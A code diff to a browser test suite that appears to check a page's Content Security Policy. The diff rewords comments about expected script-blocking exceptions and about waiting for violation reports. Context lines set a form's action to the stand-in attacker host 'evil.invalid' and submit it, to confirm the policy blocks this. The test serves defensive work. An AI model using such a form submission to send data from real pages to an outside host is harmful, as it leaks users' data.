@@ -99,7 +99,7 @@ describe("the page's policy", () => {
         try {
           attempt();
         } catch {
-          // An exception means that the browser refused to run the script, as it should.
+          // The browser throws when it refuses to run the script, which is the expected result.
         }
         await new Promise((resolve) => {
           setTimeout(resolve, 20);
@@ -127,7 +127,8 @@ describe("the page's policy", () => {
       form.action = "https://evil.invalid/";
       document.body.append(style, form);
       form.submit();
-      // Waits, because the browser reports violations one by one, on a busy machine with a delay.
+      // The browser reports CSP violations one by one, and with a delay on a busy machine, so wait up
+      // to 5 seconds for four.
       for (
         let waited = 0;
         waited === 0 || (directives.length < 4 && waited < 5_000);
